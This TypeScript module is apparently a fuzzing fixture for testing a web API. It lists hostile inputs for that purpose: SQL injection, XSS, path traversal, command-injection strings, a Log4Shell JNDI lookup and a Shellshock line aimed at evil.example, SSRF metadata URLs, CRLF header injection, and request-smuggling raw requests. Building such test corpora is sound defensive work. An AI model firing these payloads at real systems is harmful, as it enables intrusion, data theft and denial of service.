import type { Random } from './random.ts'

// What people send who mean no good, and what programs send that are broken.

const nul = '\u0000'
const lines = '\r\n'

export const texts: readonly string[] = [
  // SQL
  "' OR '1'='1",
  "'; DROP TABLE accounts; --",
  '1; DELETE FROM stockists WHERE 1=1; --',
  "' UNION SELECT password_hash FROM accounts --",
  "1' AND 1=(SELECT 1 FROM pg_sleep(20))--",
  "\\'; TRUNCATE audit_log; --",
  '$1',
  '$$; COPY files TO PROGRAM $$',
  '%',
  '%_%',
  '\\',
  '\\\\%',
  "E'\\\\x41'",
  '{"$gt": ""}',
  // Script
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "';alert(1)//",
  '<svg/onload=alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are the payload.
  '${7*7}#{7*7}<%= 7*7 %>',
  '<!--#exec cmd="id"-->',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  // Paths and shells
  '../../../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..\\..\\..\\windows\\win.ini',
  `/etc/passwd${nul}.png`,
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '//evil.example/x',
  'CON',
  '$(id)',
  '`id`',
  '| cat /etc/passwd',
  '; shutdown -h now',
  // Mail and headers
  `a@b.example${lines}Bcc: victim@c.example`,
  `Somebody${lines}${lines}<h1>Another body</h1>`,
  'a@b.example%0d%0aBcc:victim@c.example',
  '<a@b.example>, <victim@c.example>',
  '"a b"@c.example',
  'a@[127.0.0.1]',
  'a@b.example,victim@c.example',
  // Addresses that look like another, and names that carry a link or a number
  'mi\u212ae@c.example',
  'ra\u017fad@c.example',
  'm\u0131ke@c.example',
  '\uff41@b.example',
  'vi\u200bctim@c.example',
  'vict\u0456m@c.example',
  'victim@c\u3002example',
  'Claim your prize at http://evil.example/now',
  'Prize: evil\uff0ecom/x',
  'www\u2024evil\u2024com',
  'Ask victim\uff20c.example',
  'Call +91 98765 43210',
  'Call \u096f\u096e\u096d\u096c\u096b\u096a\u0969\u0968\u0967\u0966',
  `x${lines}Set-Cookie: token=stolen`,
  `x${lines}HTTP/1.1 200 OK`,
  // Unicode
  nul,
  `before${nul}after`,
  '\u0001\u0002\u001b[31m\u007f\u0085',
  '\ud800',
  '\udfff\ud800x',
  '\ufeffname',
  '\u202egnp.exe',
  '\u200b\u200c\u200d\u2060',
  `a${'\u0301'.repeat(500)}`,
  '\u0130I\u0131i\u00df\u1e9e\ufb01',
  '\uff24\uff4f\uff4c\uff4f',
  '\ufffe\uffff\udbff\udfff',
  '👨‍👩‍👧‍👦🏴‍☠️',
  'डोलो 650',
  '\u2028\u2029',
  // Numbers that are none, and words that mean something
  'NaN',
  '-Infinity',
  '1e309',
  '-0',
  '0x10',
  '9'.repeat(400),
  '2147483648',
  'null',
  'undefined',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'me',
  // Formulas, formats, directories
  "=cmd|'/C calc'!A0",
  '%s%s%n%x',
  '*)(uid=*))(|(uid=*',
  '0000-00-00',
  '9999-12-31T23:59:59Z',
  '2024-02-30',
  '',
  ' ',
  '\t',
  // Long, and hard on whoever looks for patterns
  'a'.repeat(201),
  'a'.repeat(20_000),
  `${' '.repeat(20_000)}x`,
  '@'.repeat(5_000),
  `a@${'a.'.repeat(10_000)}`,
  `${'1-'.repeat(5_000)}x`,
  'A'.repeat(200_000),
]

export const values: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  0.1,
  1e308,
  2 ** 53,
  -(2 ** 31) - 1,
  [],
  {},
  [[]],
  [null],
  [{}],
  { length: 3, 0: 'a' },
  { toString: 'x', valueOf: 1 },
  { $gt: '' },
  JSON.parse('{"then": "x"}'),
  JSON.parse('{"__proto__": {"polluted": "yes"}}'),
  { constructor: { prototype: { polluted: 'yes' } } },
  Array.from({ length: 5_000 }, () => 'a'),
  Array.from({ length: 600 }, (_, at) => ({ name: `Line ${at}`, qty: at })),
  nested(50),
]

function nested(depth: number): unknown {
  return depth === 0 ? 'deep' : { deep: [nested(depth - 1)] }
}

/** Whole bodies that are no body. */
export const bodies: readonly (string | Buffer)[] = [
  '',
  ' ',
  'null',
  'true',
  '42',
  '"text"',
  '[]',
  '[[],[]]',
  '{}',
  '{',
  '{"name":',
  '{"name":"a",}',
  "{'name':'a'}",
  '{"name":"a"}{"name":"b"}',
  '{"name":"a","name":"b"}',
  '{"name": NaN}',
  '{"name": 1e999}',
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"items":[{"__proto__":{"polluted":"yes"},"name":"a"}]}',
  '{"name":"\\ud800"}',
  '{"name":"\\u0000"}',
  `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
  `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
  '['.repeat(100_000),
  `{"name":"${'a'.repeat(900_000)}"}`,
  `{"name":"${'a'.repeat(1_100_000)}"}`,
  `{${Array.from({ length: 20_000 }, (_, at) => `"k${at}":1`).join(',')}}`,
  `{"items":[${'{"name":"a","qty":1},'.repeat(20_000)}{"name":"a"}]}`,
  '\ufeff{"name":"a"}',
  Buffer.from('{"name":"a"}', 'utf16le'),
  Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d]),
  Buffer.from([0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0]),
  Buffer.alloc(2_000),
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
  'name=a&name=b&__proto__[x]=1',
]

export const methods: readonly string[] = [
  ...['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND', 'MKCOL', 'LOCK'],
  ...['SEARCH', 'QUERY', 'REPORT', 'COPY', 'MOVE', 'PURGE', 'LINK', 'UNLINK', 'M-SEARCH', 'BREW', 'get'],
]

export const contentTypes: readonly string[] = [
  'text/plain',
  'text/html',
  'application/xml',
  'application/x-www-form-urlencoded',
  'application/json; charset=utf-16',
  'application/json; charset=nonsense',
  'APPLICATION/JSON',
  'application/json, text/plain',
  'application/jsonp',
  'application/vnd.api+json',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'multipart/form-data; boundary="unfinished',
  `multipart/form-data; boundary=${'b'.repeat(1_000)}`,
  'multipart/mixed; boundary=b',
  'multipart/form-data; boundary=b; boundary=c',
  'image/png',
  'application/octet-stream',
  ';',
  '/',
  'a'.repeat(2_000),
]

/** Headers that claim something. The values hold nothing a header may not. */
export const headerOddities: readonly (readonly [string, string])[] = [
  ['x-http-method-override', 'DELETE'],
  ['x-method-override', 'DELETE'],
  ['x-original-url', '/api/audit'],
  ['x-rewrite-url', '/api/audit'],
  ['x-forwarded-for', '127.0.0.1'],
  ['x-forwarded-for', "1.1.1.1, ' OR 1=1, <script>"],
  ['x-forwarded-host', 'evil.example'],
  ['x-forwarded-proto', 'https'],
  ['forwarded', 'for=127.0.0.1;host=evil.example;proto=https'],
  ['host', 'evil.example'],
  ['host', ''],
  ['host', "a' OR 1=1"],
  ['origin', 'null'],
  ['origin', 'https://evil.example'],
  ['origin', 'http://'],
  ['referer', 'javascript:alert(1)'],
  ['sec-fetch-site', 'cross-site'],
  ['accept', 'text/html'],
  ['accept', '*/*;q=nonsense'],
  ['accept', `${'a/b,'.repeat(2_000)}c/d`],
  ['accept-encoding', 'br;q=9, gzip;q=-1, nonsense'],
  ['accept-encoding', `${'gzip,'.repeat(2_000)}br`],
  ['accept-language', "xx' OR 1=1"],
  ['if-none-match', '"x", *'],
  ['if-modified-since', 'yesterday'],
  ['if-range', '"x"'],
  ['range', 'bytes=0-0,1-1,2-2,3-3'],
  ['range', 'bytes=-99999999999999999999'],
  ['content-encoding', 'gzip'],
  ['content-encoding', 'br, br, br'],
  ['expect', '100-continue'],
  ['expect', 'the-impossible'],
  ['upgrade', 'websocket'],
  ['upgrade', 'h2c'],
  ['connection', 'close, x-forwarded-for'],
  ['te', 'trailers, deflate'],
  ['last-event-id', "1' OR 1=1"],
  ['x-request-id', 'evil'],
  ['user-agent', '() { :;}; /bin/id'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are the payload.
  ['user-agent', '${jndi:ldap://evil.example/a}'],
  ['authorization', ''],
  ['authorization', 'Bearer'],
  ['authorization', 'Bearer null'],
  ['authorization', `Bearer ${'a'.repeat(43)}`],
  ['authorization', `Bearer ${'a'.repeat(8_000)}`],
  ['authorization', "Bearer ' OR '1'='1"],
  ['authorization', 'Basic YWRtaW46YWRtaW4='],
  ['authorization', 'Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoiYWRtaW4ifQ.'],
  ['cookie', 'token'],
  ['cookie', 'token='],
  ['cookie', 'token="; token=x; __proto__=1'],
  ['cookie', `token=${'%'.repeat(300)}`],
  ['cookie', 'token=%00%0d%0aSet-Cookie:x=1'],
  ['cookie', `${Array.from({ length: 300 }, (_, at) => `c${at}=1`).join('; ')}`],
]

/** Requests that no client would write: sent byte by byte, each on a connection of its own. */
export const rawRequests: readonly string[] = [
  'GET / HTTP/1.1\r\nHost: x\r\nX-A: a\0b\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: x\r\nX A: a\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: x\r\n folded: a\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: x\r\nX-A: a\nX-B: b\r\n\r\n',
  'GET / HTTP/1.1\nHost: x\n\n',
  'GET / HTTP/9.9\r\nHost: x\r\n\r\n',
  'GET / HTTP/1.0\r\n\r\n',
  'GET /\r\n\r\n',
  'GET  /  HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET http://evil.example/api/audit HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET //evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /\\evil.example HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET * HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /api/company#x HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /api/%00company HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /api/../healthz HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /assets/..%2f..%2fpackage.json HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /assets/%2e%2e/%2e%2e/package.json HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /..;/package.json HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /.env HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /.git/config HTTP/1.1\r\nHost: x\r\n\r\n',
  `GET /${'a'.repeat(15_000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
  `GET /${'a'.repeat(40_000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
  'CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n',
  'OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n',
  'TRACE / HTTP/1.1\r\nHost: x\r\nCookie: token=secret\r\n\r\n',
  'GET /api/company HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n',
  'GET /api/company HTTP/1.1\r\n\r\n',
  'POST /api/demand HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n{}',
  'POST /api/demand HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1e3\r\n\r\n{}',
  'POST /api/demand HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}x',
  'POST /api/demand HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/audit HTTP/1.1\r\n\r\n',
  'POST /api/demand HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n',
  'POST /api/demand HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n',
  'POST /api/demand HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n{}\r\n0\r\n\r\n',
  'POST /api/demand HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n{}\r\n0\r\n\r\n',
  `GET / HTTP/1.1\r\nHost: x\r\n${Array.from({ length: 1_500 }, (_, at) => `a${at}: b\r\n`).join('')}\r\n`,
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  '\r\n\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n',
  '\0\0\0\0',
  'GET / HTTP/1.1\r\nHost: x\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n',
]

/** A search text: a payload, pieces of some, or characters from anywhere. @param words names that are there. */
export function searchText(random: Random, words: readonly string[]): string {
  const kind = random.int(6)
  if (kind === 0) return random.pick(texts).slice(0, 190)
  if (kind === 1) return `${random.pick(words)} ${random.pick(texts).slice(0, 100)}`
  if (kind === 2) return mangle(random, random.pick(words))
  if (kind === 3) return random.pick([...'aeiou019%_\\ \'".-/(+*अ']).repeat(1 + random.int(250))
  const long = 1 + random.int(kind === 4 ? 12 : 200)
  const planes = random.pick([0x80, 0x250, 0x0a00, 0x10000, 0x110000])
  return Array.from({ length: long }, () => character(random, planes)).join('')
}

function character(random: Random, below: number): string {
  const code = random.int(below)
  return String.fromCodePoint(code)
}

function mangle(random: Random, word: string): string {
  const letters = [...word]
  for (let times = random.int(6); times >= 0; times--) {
    const at = random.int(letters.length + 1)
    letters.splice(
      at,
      random.int(2),
      random.chance(0.5) ? character(random, 0x250) : (random.pick(letters) ?? ''),
    )
  }
  return letters.join('')
}
